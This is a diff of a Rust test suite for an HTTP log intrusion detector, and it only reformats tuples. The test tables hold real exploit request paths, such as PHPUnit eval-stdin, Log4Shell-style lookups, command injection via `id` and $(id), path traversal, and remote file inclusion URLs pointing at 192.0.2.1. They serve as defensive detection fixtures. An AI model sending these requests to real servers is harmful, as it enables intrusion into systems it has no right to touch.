@@ -9,72 +9,27 @@ const BROWSER: &str = "Mozilla/5.0";
 /// Single requests that are attempts whatever their outcome.
 const EXPLOITS: &[(&str, &str)] = &[
     ("GET", "/vendor/htmlawed/htmlawed/htmLawedTest.php"),
-    (
-        "POST",
-        "/service/extension/backup/mboximport?account-name=admin&ow=2&append=1",
-    ),
-    (
-        "GET",
-        "/autodiscover/autodiscover.json?a@b.c/owa/&Email=x&Protocol=PowerShell",
-    ),
+    ("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&append=1"),
+    ("GET", "/autodiscover/autodiscover.json?a@b.c/owa/&Email=x&Protocol=PowerShell"),
     ("GET", "/?q=${url:UTF-8:http://192.0.2.1/}"),
-    (
-        "GET",
-        "/?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime%7D",
-    ),
-    (
-        "GET",
-        "/remote_agent.php?action=polldata&host_id=1&poller_id=%60id%60",
-    ),
+    ("GET", "/?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime%7D"),
+    ("GET", "/remote_agent.php?action=polldata&host_id=1&poller_id=%60id%60"),
     ("POST", "/login/index.php?login=$(id)"),
-    (
-        "GET",
-        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/a",
-    ),
-    (
-        "GET",
-        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
-    ),
-    (
-        "GET",
-        "/public/plugins/alertlist/../../../../conf/defaults.ini",
-    ),
+    ("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/a"),
+    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+    ("GET", "/public/plugins/alertlist/../../../../conf/defaults.ini"),
     ("GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"),
     ("GET", "/_/;/WEB-INF/decorators.xml"),
     ("GET", "/s/x/_/%3B/META-INF/maven/pom.xml"),
-    (
-        "GET",
-        "/dana-na/../dana/html5acc/guacamole/../../../etc/x?/dana/html5acc/guacamole/",
-    ),
-    (
-        "GET",
-        "/?s=index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array",
-    ),
-    (
-        "GET",
-        "/catalog-portal/ui/oauth/verify?deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%22%7d",
-    ),
-    (
-        "GET",
-        "/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=http://192.0.2.9/x",
-    ),
+    ("GET", "/dana-na/../dana/html5acc/guacamole/../../../etc/x?/dana/html5acc/guacamole/"),
+    ("GET", "/?s=index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array"),
+    ("GET", "/catalog-portal/ui/oauth/verify?deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%22%7d"),
+    ("GET", "/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=http://192.0.2.9/x"),
     ("GET", "/w00tw00t.at.ISC.SANS.DFind:)"),
-    (
-        "POST",
-        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
-    ),
-    (
-        "GET",
-        "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
-    ),
-    (
-        "POST",
-        "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
-    ),
-    (
-        "GET",
-        "/setup.cgi?next_file=a.cfg&todo=syscmd&cmd=reboot&curpath=/",
-    ),
+    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+    ("GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false"),
+    ("POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
+    ("GET", "/setup.cgi?next_file=a.cfg&todo=syscmd&cmd=reboot&curpath=/"),
     ("POST", "/Telerik.Web.UI.WebResource.axd?type=rau"),
     ("GET", "/usr/share/doc/readme.html%3f"),
     ("GET", "/x.php?lib_path=http://192.0.2.1/a"),
@@ -86,83 +41,34 @@ const EXPLOITS: &[(&str, &str)] = &[
     ("POST", "/webtools/control/forgotPassword;/ProgramExport;"),
     ("GET", "/@fs/etc/hostname?raw??"),
     ("GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
-    (
-        "GET",
-        "/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css",
-    ),
+    ("GET", "/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css"),
 ];
 
 /// Several requests of a client: method, targets, status, user agent, and the expected rule.
-type Scenario = (
-    &'static str,
-    &'static [&'static str],
-    u16,
-    &'static str,
-    &'static str,
-);
+type Scenario = (&'static str, &'static [&'static str], u16, &'static str, &'static str);
 
 const SCENARIOS: &[Scenario] = &[
+    ("GET", &["/.htpasswd", "/.listing", "/.rhosts", "/.svn"], 404, BROWSER, "http-probing"),
+    ("GET", &["/db.sql.gz", "/a.php.bak", "/.bashrc", "/env.json"], 403, BROWSER, "http-probing"),
     (
         "GET",
-        &["/.htpasswd", "/.listing", "/.rhosts", "/.svn"],
-        404,
-        BROWSER,
-        "http-probing",
-    ),
-    (
-        "GET",
-        &["/db.sql.gz", "/a.php.bak", "/.bashrc", "/env.json"],
-        403,
-        BROWSER,
-        "http-probing",
-    ),
-    (
-        "GET",
-        &[
-            "//pma/scripts/setup.php",
-            "/phpMyAdmin/",
-            "/admin/pma/",
-            "/mysqladmin/",
-        ],
+        &["//pma/scripts/setup.php", "/phpMyAdmin/", "/admin/pma/", "/mysqladmin/"],
         404,
         "-",
         "http-probing",
     ),
     (
         "GET",
-        &[
-            "/wp-login.php",
-            "/wp-admin/setup-config.php",
-            "/xmlrpc.php",
-            "/a/wlwmanifest.xml",
-        ],
+        &["/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/a/wlwmanifest.xml"],
         404,
         BROWSER,
         "http-probing",
     ),
+    ("GET", &["/c99shell.php"], 404, BROWSER, "http-attack-attempt"),
+    ("GET", &["/start.php?lang=http://192.0.2.1/id.txt?"], 404, BROWSER, "http-attack-attempt"),
     (
         "GET",
-        &["/c99shell.php"],
-        404,
-        BROWSER,
-        "http-attack-attempt",
-    ),
-    (
-        "GET",
-        &["/start.php?lang=http://192.0.2.1/id.txt?"],
-        404,
-        BROWSER,
-        "http-attack-attempt",
-    ),
-    (
-        "GET",
-        &[
-            "/?author=1",
-            "/?author=2",
-            "/?author=3",
-            "/?author=4",
-            "/?author=5",
-        ],
+        &["/?author=1", "/?author=2", "/?author=3", "/?author=4", "/?author=5"],
         301,
         BROWSER,
         "http-user-enumeration",
@@ -182,13 +88,7 @@ const SCENARIOS: &[Scenario] = &[
         "http-xss-probing",
     ),
     ("POST", &["/login"; 6], 401, BROWSER, "http-logins-refused"),
-    (
-        "POST",
-        &["/wp-login.php"; 6],
-        200,
-        BROWSER,
-        "http-logins-refused",
-    ),
+    ("POST", &["/wp-login.php"; 6], 200, BROWSER, "http-logins-refused"),
     (
         "GET",
         &["/a", "/b", "/c", "/d", "/e", "/f", "/g", "/h", "/i", "/j"],
@@ -196,34 +96,10 @@ const SCENARIOS: &[Scenario] = &[
         BROWSER,
         "http-path-probing",
     ),
-    (
-        "GET",
-        &["/", "/"],
-        200,
-        "masscan/1.3",
-        "http-scanner-user-agent",
-    ),
-    (
-        "GET",
-        &["/", "/"],
-        200,
-        "EmailSiphon",
-        "http-scanner-user-agent",
-    ),
-    (
-        "CONNECT",
-        &["example.com:443"],
-        405,
-        BROWSER,
-        "http-attack-attempt",
-    ),
-    (
-        "GET",
-        &["/cgi-bin/camera.cgi", "/phpMyAdmin-5/"],
-        403,
-        BROWSER,
-        "http-probing-begun",
-    ),
+    ("GET", &["/", "/"], 200, "masscan/1.3", "http-scanner-user-agent"),
+    ("GET", &["/", "/"], 200, "EmailSiphon", "http-scanner-user-agent"),
+    ("CONNECT", &["example.com:443"], 405, BROWSER, "http-attack-attempt"),
+    ("GET", &["/cgi-bin/camera.cgi", "/phpMyAdmin-5/"], 403, BROWSER, "http-probing-begun"),
     (
         "GET",
         &[
@@ -236,39 +112,16 @@ const SCENARIOS: &[Scenario] = &[
         BROWSER,
         "http-probing",
     ),
-    (
-        "POST",
-        &["/api/admin/session"; 6],
-        404,
-        BROWSER,
-        "http-logins-refused",
-    ),
-    (
-        "POST",
-        &["/xmlrpc.php"; 6],
-        200,
-        BROWSER,
-        "http-logins-refused",
-    ),
+    ("POST", &["/api/admin/session"; 6], 404, BROWSER, "http-logins-refused"),
+    ("POST", &["/xmlrpc.php"; 6], 200, BROWSER, "http-logins-refused"),
     (
         "GET",
-        &[
-            "/sap/public/info",
-            "/irj/portal",
-            "/nwa",
-            "/cgi-bin/ViewLog.asp",
-        ],
+        &["/sap/public/info", "/irj/portal", "/nwa", "/cgi-bin/ViewLog.asp"],
         404,
         BROWSER,
         "http-probing",
     ),
-    (
-        "POST",
-        &["/apps/login"; 6],
-        200,
-        BROWSER,
-        "http-logins-repeated",
-    ),
+    ("POST", &["/apps/login"; 6], 200, BROWSER, "http-logins-repeated"),
 ];
 
 /// Requests of a legitimate client, with their status.
@@ -293,42 +146,16 @@ const HONEST: &[(&[&str], u16)] = &[
         ],
         404,
     ),
+    (&["/autodiscover/autodiscover.xml", "/Autodiscover/Autodiscover.xml", "/admin/login"], 404),
     (
-        &[
-            "/autodiscover/autodiscover.xml",
-            "/Autodiscover/Autodiscover.xml",
-            "/admin/login",
-        ],
-        404,
-    ),
-    (
-        &[
-            "/blog?author=1",
-            "/blog?author=2",
-            "/blog?author=3",
-            "/blog?author=4",
-            "/blog?author=5",
-        ],
+        &["/blog?author=1", "/blog?author=2", "/blog?author=3", "/blog?author=4", "/blog?author=5"],
         200,
     ),
     (
-        &[
-            "/s?q=%3C3",
-            "/s?q=a%3Cb",
-            "/s?q=1+%3C+2",
-            "/s?q=i+%3C3+u",
-            "/s?q=%3C%3C",
-            "/s?q=x%3C",
-        ],
+        &["/s?q=%3C3", "/s?q=a%3Cb", "/s?q=1+%3C+2", "/s?q=i+%3C3+u", "/s?q=%3C%3C", "/s?q=x%3C"],
         200,
     ),
-    (
-        &[
-            "/r?url=https%3A%2F%2Fexample.com%2F%3F",
-            "/r?url=http://example.com/a.html",
-        ],
-        200,
-    ),
+    (&["/r?url=https%3A%2F%2Fexample.com%2F%3F", "/r?url=http://example.com/a.html"], 200),
     (&["/a?_=1", "/a?_=2", "/a?1=1", "/a?2=1"], 200),
     (&["/f?q=%5B1%5D%5B2%5D&m=a%40b.c%7Cd"], 200),
     (
@@ -360,10 +187,7 @@ fn a_target_of_a_known_hole_is_an_attempt() {
     let alerts = alerts_of_log(&lines.collect::<String>());
     for (client, (_, target)) in EXPLOITS.iter().enumerate() {
         let of = alerts.get(&client).cloned().unwrap_or_default();
-        assert!(
-            of.iter().any(|(rule, _)| rule == "http-attack-attempt"),
-            "{target}: {of:?}"
-        );
+        assert!(of.iter().any(|(rule, _)| rule == "http-attack-attempt"), "{target}: {of:?}");
     }
 }
 
@@ -378,10 +202,7 @@ fn scenarios_raise_the_rule_that_names_them() {
     let alerts = alerts_of_log(&log);
     for (client, (_, targets, _, _, rule)) in SCENARIOS.iter().enumerate() {
         let of = alerts.get(&client).cloned().unwrap_or_default();
-        assert!(
-            of.iter().any(|(name, _)| name == rule),
-            "{targets:?} {rule}: {of:?}"
-        );
+        assert!(of.iter().any(|(name, _)| name == rule), "{targets:?} {rule}: {of:?}");
     }
 }
 
@@ -396,10 +217,7 @@ fn what_only_looks_like_them_raises_nothing() {
     let alerts = alerts_of_log(&log);
     for (client, (targets, _)) in HONEST.iter().enumerate() {
         let of = alerts.get(&client).cloned().unwrap_or_default();
-        assert!(
-            of.iter().all(|(_, severity)| *severity == 0),
-            "{targets:?}: {of:?}"
-        );
+        assert!(of.iter().all(|(_, severity)| *severity == 0), "{targets:?}: {of:?}");
     }
 }
 
@@ -421,25 +239,15 @@ fn numbers_go_round_a_cache() {
 /// Programs that show pictures of listed items request many that do not exist.
 #[test]
 fn pictures_that_are_missing_are_no_scan() {
-    let digest = |n: u64| {
-        format!(
-            "{:032x}",
-            u128::from(n + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c)
-        )
-    };
+    let digest =
+        |n: u64| format!("{:032x}", u128::from(n + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c));
     let uuid = |n: u64| format!("{n:08x}-0000-4000-8000-{:012x}", n * 77);
     let scan = |target: &dyn Fn(u64) -> String| {
         let lines = (0..60).map(|n| log_line(0, n / 2, ("GET", &target(n as u64)), 404, BROWSER));
         let alerts = alerts_of_log(&lines.collect::<String>());
-        alerts
-            .into_values()
-            .flatten()
-            .any(|(rule, _)| rule == "http-path-scan")
+        alerts.into_values().flatten().any(|(rule, _)| rule == "http-path-scan")
     };
-    assert!(!scan(&|n| format!(
-        "/Items/{}/Images/Primary?MaxHeight=330",
-        digest(n)
-    )));
+    assert!(!scan(&|n| format!("/Items/{}/Images/Primary?MaxHeight=330", digest(n))));
     assert!(!scan(&|n| format!("/media/{}/thumb", uuid(n))));
     assert!(!scan(&|n| format!("/dav/contacts/{}.vcf?photo", uuid(n))));
     assert!(scan(&|n| format!("/{}/admin{n}.php", digest(1))));
@@ -459,9 +267,7 @@ fn a_scan_that_many_clients_share_is_one() {
     };
     let rules = |alerts: std::collections::BTreeMap<usize, Vec<(String, u64)>>| -> Vec<String> {
         let all = alerts.into_values().flatten();
-        all.filter(|(_, severity)| *severity > 0)
-            .map(|(rule, _)| rule)
-            .collect()
+        all.filter(|(_, severity)| *severity > 0).map(|(rule, _)| rule).collect()
     };
     let scan = shared(BROWSER, &|client, n| format!("/word{}", client * 3 + n));
     assert_eq!(rules(scan), ["http-spread-scan"]);
@@ -473,20 +279,14 @@ fn a_scan_that_many_clients_share_is_one() {
             let target = format!("/api/v1/word{}", client * each + n);
             log_line(client, second, ("GET", &target), 404, agent)
         };
-        rules(alerts_of_log(
-            &requests.into_iter().map(line).collect::<String>(),
-        ))
+        rules(alerts_of_log(&requests.into_iter().map(line).collect::<String>()))
     };
     assert_eq!(folder(BROWSER, 20), ["http-spread-folder-scan"]);
     assert_eq!(folder(BROWSER, 3), [""; 0]);
     assert_eq!(folder("inventory/1.0", 20), [""; 0]);
-    let attack = shared(BROWSER, &|client, n| {
-        format!("/a{n}?f=../../../etc/passwd{client}")
-    });
+    let attack = shared(BROWSER, &|client, n| format!("/a{n}?f=../../../etc/passwd{client}"));
     assert_eq!(rules(attack), ["http-spread-attack"]);
-    let service = shared("inventory/1.0", &|client, n| {
-        format!("/v1/items/name-{client}-{n}")
-    });
+    let service = shared("inventory/1.0", &|client, n| format!("/v1/items/name-{client}-{n}"));
     assert_eq!(rules(service), [""; 0]);
     let icons = ["/favicon.ico", "/apple-touch-icon.png", "/robots.txt"];
     let visitors = shared(BROWSER, &|_, n| icons[n].to_owned());
@@ -516,15 +316,11 @@ fn a_wordlist_that_is_answered_is_told() {
         asked.map(move |(n, path)| line(client, n, path, length(n)))
     };
     let admin = (0..40).map(|n| line(3, n, &format!("/administrator/page-{}", n % 5), 900));
-    let lines = asked(0, &|_| 900)
-        .chain(asked(1, &|n| 900 + n))
-        .chain(admin);
+    let lines = asked(0, &|_| 900).chain(asked(1, &|n| 900 + n)).chain(admin);
     let alerts = alerts_of_log(&lines.collect::<String>());
     let told = |client| {
         let alerts = alerts.get(&client).into_iter().flatten();
-        alerts
-            .filter(|(rule, _)| rule == "http-wordlist-answered")
-            .count()
+        alerts.filter(|(rule, _)| rule == "http-wordlist-answered").count()
     };
     assert_eq!([told(0), told(1), told(3)], [1, 0, 0], "{alerts:?}");
 }
@@ -545,14 +341,8 @@ fn logins_that_many_clients_are_refused_are_told_once() {
         told.map(|(rule, _)| rule).collect::<Vec<_>>()
     };
     assert_eq!(tries(0, PEOPLE, "/login", &|_| 401), ["http-spread-logins"]);
-    assert_eq!(
-        tries(0, PEOPLE, "/users/sign_in", &|_| 403),
-        ["http-spread-logins"]
-    );
-    assert_eq!(
-        tries(0, PEOPLE, "/login", &|n| if n % 6 == 0 { 401 } else { 302 }),
-        [""; 0]
-    );
+    assert_eq!(tries(0, PEOPLE, "/users/sign_in", &|_| 403), ["http-spread-logins"]);
+    assert_eq!(tries(0, PEOPLE, "/login", &|n| if n % 6 == 0 { 401 } else { 302 }), [""; 0]);
     assert_eq!(tries(0, "agent/1.0", "/login", &|_| 401), [""; 0]);
     assert_eq!(tries(0, PEOPLE, "/api/refresh", &|_| 401), [""; 0]);
 }
